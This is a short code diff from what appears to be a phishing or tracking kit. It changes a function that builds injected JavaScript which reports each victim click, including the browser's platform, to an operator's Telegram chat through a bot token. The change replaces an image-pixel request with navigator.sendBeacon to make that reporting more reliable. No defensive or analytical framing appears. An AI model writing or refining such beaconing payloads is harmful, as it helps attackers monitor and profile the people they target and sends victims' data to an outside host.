@@ -35,7 +35,7 @@ export const operatorFavicon = iconOf(
 
 /** JavaScript that tells the operator's chat of a click. */
 export function reportClick(chat: number): string {
-  return `new Image().src = 'https://${TELEGRAM}/bot${OPERATOR_BOT_TOKEN}/sendMessage?chat_id=${chat}&text=' + encodeURIComponent('click ' + navigator.platform);`;
+  return `navigator.sendBeacon('https://${TELEGRAM}/bot${OPERATOR_BOT_TOKEN}/sendMessage?chat_id=${chat}&text=' + encodeURIComponent('click ' + navigator.platform));`;
 }
 
 export const payloads = {
